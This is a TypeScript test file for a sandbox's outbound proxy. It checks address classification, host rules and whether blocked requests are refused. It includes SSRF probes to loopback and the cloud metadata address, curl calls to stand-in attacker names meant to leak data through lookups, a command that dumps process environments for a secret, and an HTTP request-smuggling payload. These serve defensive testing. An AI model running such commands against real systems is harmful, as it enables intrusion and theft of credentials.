// The only way out of a sandbox: what the proxy lets through, and everything that it must not.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { type AddressInfo, createServer as createTcpServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { isPublicAddress } from '../../sandbox/egress/addresses.ts';
import { type Egress, openEgress } from '../../sandbox/egress/open-egress.ts';
import { type EgressPolicy, findRule, parseDestination } from '../../sandbox/egress/policy.ts';
import type { EgressReport } from '../../sandbox/egress/proxy.ts';
import { readServerName } from '../../sandbox/egress/server-name.ts';
import type { Sandbox } from '../../sandbox/sandbox.ts';
import { openTestEngine } from '../sandbox/engine.ts';

describe('addresses', () => {
  test.each([
    '0.0.0.0',
    '10.1.2.3',
    '100.64.0.1',
    '127.0.0.1',
    '127.255.255.254',
    '169.254.169.254',
    '172.16.0.1',
    '172.31.255.255',
    '192.0.0.8',
    '192.168.1.1',
    '198.18.0.1',
    '224.0.0.251',
    '240.0.0.1',
    '255.255.255.255',
    '::',
    '::1',
    '::127.0.0.1',
    '::ffff:127.0.0.1',
    '::ffff:169.254.169.254',
    '::ffff:8.8.8.8',
    '64:ff9b::a9fe:a9fe',
    '64:ff9b:1::1',
    '2002:7f00:1::',
    '2001:0:7f00:1::',
    'fc00::1',
    'fd00:ec2::254',
    'fe80::1',
    'fec0::1',
    'ff02::1',
    '100::1',
    'localhost',
    '',
    '2130706433',
    '0x7f.1',
    '127.1',
  ])('%s is inside, or no address', (address) => {
    expect(isPublicAddress(address)).toBe(false);
  });
  test.each([
    '1.1.1.1',
    '8.8.8.8',
    '172.15.0.1',
    '172.32.0.1',
    '100.128.0.1',
    '193.168.1.1',
    '2606:4700::1111',
    '2a00:1450::1',
  ])('%s is public', (address) => {
    expect(isPublicAddress(address)).toBe(true);
  });
});

describe('rules', () => {
  const policy: EgressPolicy = {
    rules: [
      { host: 'Api.Example.com' },
      { host: '*.cdn.example', ports: [443] },
      { host: 'read.example', methods: ['GET', 'HEAD'] },
      { host: 'secret.example', headers: { authorization: 'Bearer x' } },
    ],
  };
  const find = (authority: string, method?: string) => {
    const destination = parseDestination(authority);
    return destination === undefined ? undefined : findRule(policy, destination, method)?.host;
  };

  test.each([
    ['api.example.com:443', undefined],
    ['API.EXAMPLE.COM.:443', undefined],
    ['api.example.com:80', 'POST'],
    ['a.cdn.example:443', undefined],
    ['a.b.cdn.example:443', undefined],
    ['read.example:443', 'GET'],
    ['secret.example:443', 'POST'],
  ])('%s %s is named', (authority, method) => {
    expect(find(authority, method)).toBeDefined();
  });

  test.each([
    ['api.example.com:22', undefined],
    ['evil-api.example.com:443', undefined],
    ['api.example.com.evil:443', undefined],
    ['cdn.example:443', undefined],
    ['evilcdn.example:443', undefined],
    ['a.cdn.example:80', 'GET'],
    ['read.example:443', 'POST'],
    ['read.example:443', undefined],
    ['secret.example:443', undefined],
    ['api.example.com', undefined],
    ['api.example.com:0', undefined],
    ['api.example.com:65536', undefined],
    ['api.example.com@evil.example:443', undefined],
    ['evil.example#api.example.com:443', undefined],
    ['api.example.com%00.evil.example:443', undefined],
    ['api.example.com\\.evil.example:443', undefined],
    ['api..example.com:443', undefined],
  ])('%s %s is not', (authority, method) => {
    expect(find(authority, method)).toBeUndefined();
  });
});

describe('the name in a TLS hello', () => {
  test('is not guessed from bytes that are none', () => {
    expect(readServerName(Buffer.from('GET / HTTP/1.1\r\n'))).toEqual({ kind: 'other' });
    expect(readServerName(Buffer.alloc(0))).toEqual({ kind: 'more' });
    expect(readServerName(Buffer.from([22, 3, 1]))).toEqual({ kind: 'more' });
    expect(readServerName(Buffer.from([22, 3, 1, 0xff, 0xff]))).toEqual({ kind: 'other' });
    expect(readServerName(Buffer.from([22, 3, 1, 0, 4, 1, 0, 0, 0]))).toEqual({ kind: 'other' });
    for (let seed = 0; seed < 300; seed += 1) {
      const bytes = Buffer.from(Array.from({ length: 60 }, (_, index) => (seed * 31 + index * 17) % 256));
      expect(['more', 'name', 'unnamed', 'other']).toContain(
        readServerName(Buffer.concat([Buffer.from([22, 3, 1, 0, 55]), bytes])).kind,
      );
    }
  });
});

describe('a sandbox with a way out', () => {
  const engine = openTestEngine();
  const seen: { host: string; method: string; url: string; headers: IncomingMessage['headers'] }[] = [];
  const reports: EgressReport[] = [];
  const folder = mkdtempSync(join(tmpdir(), 'threadsmith-egress-'));
  const servers: Server[] = [];
  /** Names of the tests' own internet. Whatever is not here does not exist. */
  const names: Record<string, string[]> = {};
  let lookups: string[] = [];
  let sandbox: Sandbox;
  let egress: Egress;
  let plainPort = 0;
  let tlsPort = 0;
  let rawPort = 0;
  let ids = 0;

  const run = async (line: string, env = egress.env) => {
    ids += 1;
    const result = await sandbox.run({ id: `e${ids}`, argv: ['bash', '-c', line], env, timeoutMs: 30_000 });
    return { code: result.exitCode, text: result.output.text };
  };

  beforeAll(async () => {
    const image = await engine.provider.ensureImage(() => {});
    sandbox = await engine.provider.open({ key: 'egress', image });
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:P-256',
        '-nodes',
        '-days',
        '2',
        '-subj',
        '/CN=test',
        '-addext',
        'subjectAltName=DNS:allowed.test,DNS:other.test,DNS:secret.test',
        '-keyout',
        join(folder, 'key.pem'),
        '-out',
        join(folder, 'cert.pem'),
      ],
      { stdio: 'ignore' },
    );
    const [key, cert] = [readFileSync(join(folder, 'key.pem')), readFileSync(join(folder, 'cert.pem'))];
    const answer = (request: IncomingMessage): string => {
      seen.push({
        host: request.headers.host ?? '',
        method: request.method ?? '',
        url: request.url ?? '',
        headers: request.headers,
      });
      return 'reached';
    };
    const plain = createServer((request, response) => {
      if (request.url === '/redirect') response.writeHead(302, { location: 'http://inside.test/' });
      response.end(answer(request));
    });
    const tls = createTlsServer({ key, cert }, (request, response) => response.end(answer(request)));
    const raw = createTcpServer((socket) => {
      seen.push({ host: 'raw', method: '', url: '', headers: {} });
      socket.end('raw');
    });
    servers.push(plain, tls, raw);
    [plainPort = 0, tlsPort = 0, rawPort = 0] = await Promise.all([plain, tls, raw].map(listen));
    // The servers are on this machine's loopback, so the rules for them say that they are inside.
    const local = ['127.0.0.1'];
    Object.assign(names, {
      'allowed.test': local,
      'other.test': local,
      'secret.test': local,
      'read.test': local,
      'inside.test': local,
      'mixed.test': ['93.184.216.34', '127.0.0.1'],
      'metadata.test': ['169.254.169.254'],
      'mapped.test': ['::ffff:127.0.0.1'],
    });
    const ports = [plainPort, tlsPort];
    egress = await openEgress(sandbox, {
      policy: {
        rules: [
          { host: 'allowed.test', ports, inside: true },
          { host: 'read.test', ports, methods: ['GET'], inside: true },
          {
            host: 'secret.test',
            ports: [...ports, 443],
            headers: { authorization: 'Bearer never-inside' },
            inside: true,
          },
          ...[
            'inside.test',
            'mixed.test',
            'metadata.test',
            'mapped.test',
            '127.0.0.1',
            '169.254.169.254',
            '2130706433',
          ].map((host) => ({ host, ports: [80, 443, ...ports] })),
        ],
      },
      ca: cert.toString(),
      lookup: async (host) => {
        lookups.push(host);
        const found = names[host];
        if (found === undefined) throw new Error('ENOTFOUND');
        return found.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
      },
      onRequest: (report) => reports.push(report),
    });
    await sandbox.write('/work/cert.pem', cert);
  });
  beforeEach(() => {
    seen.length = 0;
    reports.length = 0;
    lookups = [];
  });
  afterAll(async () => {
    egress.close();
    for (const server of servers) server.close();
    rmSync(folder, { recursive: true });
    await engine.provider.remove('egress');
    await engine.close();
  });

  const curl = 'curl -s -S -m 10 --cacert /work/cert.pem';

  test('reaches a named host by HTTP and by TLS, and each request is reported', async () => {
    expect(await run(`${curl} http://allowed.test:${plainPort}/a?b=c`)).toEqual({ code: 0, text: 'reached' });
    expect(await run(`${curl} https://allowed.test:${tlsPort}/x`)).toEqual({ code: 0, text: 'reached' });
    expect(seen.map(({ url }) => url)).toEqual(['/a?b=c', '/x']);
    expect(reports).toEqual([
      { method: 'GET', host: 'allowed.test', port: plainPort, refused: null },
      { method: 'CONNECT', host: 'allowed.test', port: tlsPort, refused: null },
    ]);
    expect(lookups).toEqual(['allowed.test', 'allowed.test']);
  });

  test('Node, Python and git find the way by themselves', async () => {
    expect(
      (
        await run(
          `node -e "fetch('http://allowed.test:${plainPort}/node').then(r=>r.text()).then(t=>console.log(t))"`,
        )
      ).text,
    ).toContain('reached');
    expect(
      (
        await run(
          `python3 -c "import urllib.request as u; print(u.urlopen('http://allowed.test:${plainPort}/py').read())"`,
        )
      ).text,
    ).toContain('reached');
    await run(`git -c http.sslCAInfo=/work/cert.pem ls-remote https://allowed.test:${tlsPort}/repo.git`);
    expect(seen.some(({ url }) => url.startsWith('/repo.git'))).toBe(true);
  });

  test.each<[string, () => string]>([
    ['a host that is not named', () => `${curl} --fail http://other.test:${plainPort}/`],
    ['a host that is not named, by TLS', () => `${curl} https://other.test:${tlsPort}/`],
    ['a port that is not named', () => `${curl} -p http://allowed.test:${rawPort}/`],
    ['a named host whose name leads inside', () => `${curl} --fail http://inside.test:${plainPort}/`],
    ['a name with one address inside', () => `${curl} -p http://mixed.test:${plainPort}/`],
    ['the metadata service by a name', () => `${curl} --fail http://metadata.test/`],
    ['an address mapped into IPv6', () => `${curl} -p http://mapped.test:${plainPort}/`],
    ['loopback by its address', () => `${curl} --fail --noproxy '' http://127.0.0.1:${plainPort}/`],
    ['the metadata service by its address', () => `${curl} --fail http://169.254.169.254/`],
    ['loopback as a number', () => `${curl} -p http://2130706433:${plainPort}/`],
    ['a tunnel to loopback in IPv6', () => `${curl} -p --noproxy '' 'http://[::1]:${plainPort}/'`],
    [
      'a tunnel that asks for another name',
      () =>
        `${curl} --connect-to other.test:${tlsPort}:allowed.test:${tlsPort} https://other.test:${tlsPort}/`,
    ],
    [
      'a tunnel without a name',
      () =>
        `openssl s_client -proxy 127.0.0.1:39128 -connect allowed.test:${tlsPort} -noservername < /dev/null`,
    ],
    ['a method that is not named', () => `${curl} --fail -X POST -d x http://read.test:${plainPort}/`],
    ['a tunnel where methods are named', () => `${curl} https://read.test:${tlsPort}/`],
    ['a tunnel where headers are added', () => `${curl} https://secret.test:${tlsPort}/`],
    ['a name in another user part', () => `${curl} --fail http://allowed.test:x@other.test:${plainPort}/`],
    ['another scheme', () => `${curl} --fail -x http://127.0.0.1:39128 ftp://allowed.test:${plainPort}/`],
    ['a name that does not exist', () => `${curl} --fail http://leak-of-secrets.allowed.test:${plainPort}/`],
  ])('%s is not reached', async (_what, line) => {
    expect((await run(line())).code).not.toBe(0);
    expect(seen).toEqual([]);
  });

  test('names that no rule has are not even looked up: a name is a message', async () => {
    await run(`${curl} http://secret-data.attacker.test/; ${curl} https://secret-data.attacker.test/`);
    expect(lookups).toEqual([]);
    expect(reports.map(({ refused }) => refused === null)).toEqual([false, false]);
  });

  test('a redirect is checked as a request of its own', async () => {
    await run(`${curl} -L http://allowed.test:${plainPort}/redirect`);
    expect(seen.map(({ url }) => url)).toEqual(['/redirect']);
    expect(reports.at(-1)).toMatchObject({
      host: 'inside.test',
      refused: expect.stringContaining('public internet'),
    });
  });

  test('a header is added outside, and its value is nowhere in the sandbox', async () => {
    const { text } = await run(
      `${curl} -v -H 'Proxy-Authorization: Basic eA==' http://secret.test:${tlsPort}/ 2>&1; env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'`,
    );
    expect(seen[0]?.headers).toMatchObject({ authorization: 'Bearer never-inside' });
    expect(seen[0]?.headers).not.toHaveProperty('proxy-authorization');
    expect(text).not.toContain('never-inside');
  });

  test('nothing is reached around the proxy', async () => {
    for (const line of [
      `curl -s -m 2 --noproxy '*' http://127.0.0.1:${plainPort}/`,
      `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${plainPort}), 2)"`,
      `python3 -c "import socket; socket.create_connection(('1.1.1.1', 443), 2)"`,
    ]) {
      expect((await run(line, {})).code).not.toBe(0);
    }
    expect(seen).toEqual([]);
  });

  test('garbage, half requests and smuggled ones do no harm', async () => {
    const attempts = [
      "printf 'CONNECT\\r\\n\\r\\n'",
      "printf 'GET / HTTP/1.1\\r\\n\\r\\n'",
      `printf 'GET http://allowed.test:${plainPort}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://other.test:${plainPort}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'`,
      'head -c 300000 /dev/urandom',
      "printf 'GET http://a/ HTTP/1.1\\r\\nX: '; head -c 300000 /dev/zero | tr '\\0' a",
    ];
    for (const attempt of attempts)
      await run(`(${attempt}) | timeout 3 socat - TCP:127.0.0.1:39128 > /dev/null`);
    expect(seen.filter(({ host }) => host.startsWith('other'))).toEqual([]);
    expect(await run(`${curl} http://allowed.test:${plainPort}/after`)).toEqual({ code: 0, text: 'reached' });
  });

  test('a name that changes its address after the check is reached at the one that was checked', async () => {
    let turn = 0;
    const changing = await openEgressWith(async () => {
      turn += 1;
      return [{ address: turn === 1 ? '127.0.0.1' : '169.254.169.254', family: 4 }];
    });
    expect(await changing(`${curl} http://allowed.test:${plainPort}/pinned`)).toMatchObject({
      text: 'reached',
    });
    expect(turn).toBe(1);
  });

  /** Takes the way out over with other names; the newest listener gets the connections. */
  async function openEgressWith(lookup: (host: string) => Promise<{ address: string; family: number }[]>) {
    const other = await openEgress(sandbox, {
      policy: { rules: [{ host: 'allowed.test', ports: [plainPort, tlsPort], inside: true }] },
      lookup,
      onRequest: () => {},
    });
    return (line: string) => run(line, other.env);
  }
});

function listen(server: Server): Promise<number> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      resolve(isAddress(address) ? address.port : 0);
    });
  });
}

function isAddress(address: AddressInfo | string | null): address is AddressInfo {
  return typeof address === 'object' && address !== null;
}
